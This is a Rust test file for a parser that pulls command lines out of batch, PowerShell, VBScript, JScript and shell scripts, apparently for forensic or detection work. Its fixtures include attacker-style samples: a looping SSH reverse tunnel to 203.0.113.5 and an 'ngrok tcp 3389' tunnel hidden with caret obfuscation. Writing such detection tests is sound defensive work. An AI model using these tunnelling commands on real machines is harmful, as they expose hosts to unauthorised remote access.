//! Scripts of every language, and what is none.

use super::*;
use crate::model::Everything;
use crate::parse::testing::{Words, parse, parse_named, torment};

/// Compares the commands of a script of that name with `line: command` for each.
fn check(name: &str, script: &str, expected: &[&str]) {
    let kept = parse_named(&DiskScript, name, &script.as_bytes().to_vec(), &Everything).unwrap();
    let commands = kept.records.iter();
    let commands = commands.map(|r| format!("{}: {}", r.locator, r.text("CommandLine").unwrap()));
    assert_eq!(commands.collect::<Vec<_>>(), expected, "{name}");
}

const BATCH: &str = "@echo off\r\nrem ngrok tcp 22\r\n:: ngrok\r\nset H=203.0.113.5\r\n:l\r\n\
    echo y | C:\\x\\w.exe -ssh -R 1:a:2 %h%\r\n@start n^gr^ok tcp ^\r\n  3389\r\ngoto l";

#[test]
fn commands_of_every_language() {
    check(
        "upd.BAT",
        BATCH,
        &[
            "line:4: set H=203.0.113.5",
            "line:6: echo y | C:\\x\\w.exe -ssh -R 1:a:2 203.0.113.5",
            "line:7: start ngrok tcp 3389",
            "line:9: goto l",
        ],
    );
    check(
        "go.ps1",
        "<# ngrok\ntcp #>\n$exe = 'C:\\t\\n.exe'\n# ngrok\n& $Exe tcp `\n 3389\n$exe = Get-X\n& $exe",
        &[
            "line:3: $exe = 'C:\\t\\n.exe'",
            "line:5: & C:\\t\\n.exe tcp 3389",
            "line:7: $exe = Get-X",
            "line:8: & $exe",
        ],
    );
    check(
        "run.vbs",
        "' ngrok\nRem ngrok\nCreateObject(\"WScript.Shell\").Run \"cmd /c \"\"C:\\a b\\u.bat\"\"\", _\n0",
        &["line:3: CreateObject(\"WScript.Shell\").Run \"cmd /c \"C:\\a b\\u.bat\"\", 0"],
    );
    check(
        "run.js",
        "/* ngrok\n*/\n// ngrok\nshell.Run('ngrok tcp 22');",
        &["line:4: shell.Run('ngrok tcp 22');"],
    );
    check(
        "t.sh",
        "#!/bin/sh\nB=/opt/b\nexport P=\"22\"\necho use ngrok\necho x | ${B} $P $PX \\\n -v\n",
        &["line:2: B=/opt/b", "line:3: export P=\"22\"", "line:5: echo x | /opt/b 22 $PX -v"],
    );
}

#[test]
fn any_encoding() {
    let wide: Vec<u8> = "\u{feff}a 1\r\nb".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let kept = parse_named(&DiskScript, "a.ps1", &wide, &Everything).unwrap();
    assert_eq!(kept.records.len(), 2);
    let ansi = b"d\xfcr tcp\n".to_vec();
    let kept = parse_named(&DiskScript, "a.bat", &ansi, &Everything).unwrap();
    assert_eq!(kept.records[0].text("CommandLine"), Some("d\u{fffd}r tcp"));
}

#[test]
fn only_what_matters() {
    let script = BATCH.as_bytes().to_vec();
    let kept = parse_named(&DiskScript, "a.bat", &script, &Words(&["ngrok"])).unwrap();
    assert_eq!(kept.records.len(), 1, "comments are none");
    assert_eq!(kept.records[0].text("Name"), Some("a.bat"));
    assert_eq!(kept.records[0].number("Line"), Some(7));
}

#[test]
fn what_is_none_is_said_and_long_commands_are_cut() {
    let program = [&b"MZ"[..], &[0, 1, 2, 3, 0, 0, 7].repeat(9)].concat();
    let kept = parse(&DiskScript, &program).unwrap();
    assert!(kept.records.is_empty() && kept.damage.iter().all(|damage| !damage.lost));
    assert_eq!(kept.damage.len(), 1);
    let long = parse(&DiskScript, &"é".repeat(1 << 20).into_bytes()).unwrap();
    assert_eq!(long.records[0].text("CommandLine").map(str::len), Some(MAX_COMMAND_BYTES));
    assert!(parse(&DiskScript, b"").unwrap().records.is_empty());
    assert!(matches!(parse(&DiskScript, &vec![b'a'; 5 << 20]), Err(ParseError::Io(_))));
}

#[test]
fn damage_never_stops_it() {
    torment(&DiskScript, BATCH.as_bytes(), 300);
    check(
        "a.bat",
        "set A=%A%%A%\nset A=%A%\n%A% ^",
        &["line:1: set A=%A%%A%", "line:2: set A=%A%%A%", "line:3: %A%%A%"],
    );
}
